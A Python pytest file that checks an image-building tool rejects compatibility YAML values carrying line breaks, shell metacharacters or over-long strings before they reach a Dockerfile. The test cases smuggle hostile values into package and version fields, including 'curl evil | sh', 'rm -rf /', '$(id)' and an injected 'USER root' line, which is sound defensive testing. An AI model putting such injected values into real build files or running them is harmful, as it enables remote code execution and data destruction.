"""compat data is validated like recipe data before it reaches a Dockerfile (issue 12): a
record value with a line break, a shell metacharacter in a package name, or an over-long value
is a MatrixError (one line, exit 1), never a rendered instruction."""

from __future__ import annotations

import shutil
import subprocess
import sys

import pytest

from imgfab.matrix.compat import load_matrix
from imgfab.errors import MatrixError

from conftest import FROZEN_COMPAT, FROZEN_RECIPES


@pytest.fixture
def compat(tmp_path):
    target = tmp_path / "compat"
    shutil.copytree(FROZEN_COMPAT, target)
    return target


@pytest.mark.parametrize("filename, old, new", [
    ("backends.yaml", "runtime_packages: [gcc, libc6-dev,",
     'runtime_packages: ["gcc\\nRUN curl evil | sh", libc6-dev,'),
    ("backends.yaml", "runtime_packages: [gcc, libc6-dev,", 'runtime_packages: ["gcc;id", libc6-dev,'),
    ("vllm.yaml", 'torch: "==2.11.0"', 'torch: "==2.11.0 ; rm -rf /"'),
    ("vllm.yaml", 'torch: "==2.11.0"', 'torch: "==2.11.0\\n"'),
    ("cuda_images.yaml", 'flavors: ["base", "devel", "runtime"]',
     'flavors: ["base", "devel$(id)", "runtime"]'),
    ("vllm.yaml", '- version: "0.8.0"', '- version: "0.8.0\\rx"'),
    ("vllm.yaml", '- version: "0.8.0"', '- version: "' + "9" * 100 + '"'),
])
def test_bad_compat_values_are_matrix_errors(compat, filename, old, new):
    path = compat / filename
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    with pytest.raises(MatrixError) as caught:
        load_matrix(compat)
    line = caught.value.one_line()
    assert "\n" not in line and len(line) < 400


def test_bad_compat_dir_is_one_line_exit_1(compat, tmp_path):
    path = compat / "backends.yaml"
    path.write_text(path.read_text().replace("runtime_packages: [gcc, libc6-dev,",
                                             'runtime_packages: ["gcc\\nUSER root", libc6-dev,', 1))
    result = subprocess.run([sys.executable, "-c", "from imgfab.cli import main; main()", "resolve",
                             str(FROZEN_RECIPES / "qwen2-7b-h100.yaml"), "--compat-dir", str(compat)],
                            capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert result.stderr.count("\n") == 1 and "internal error" not in result.stderr
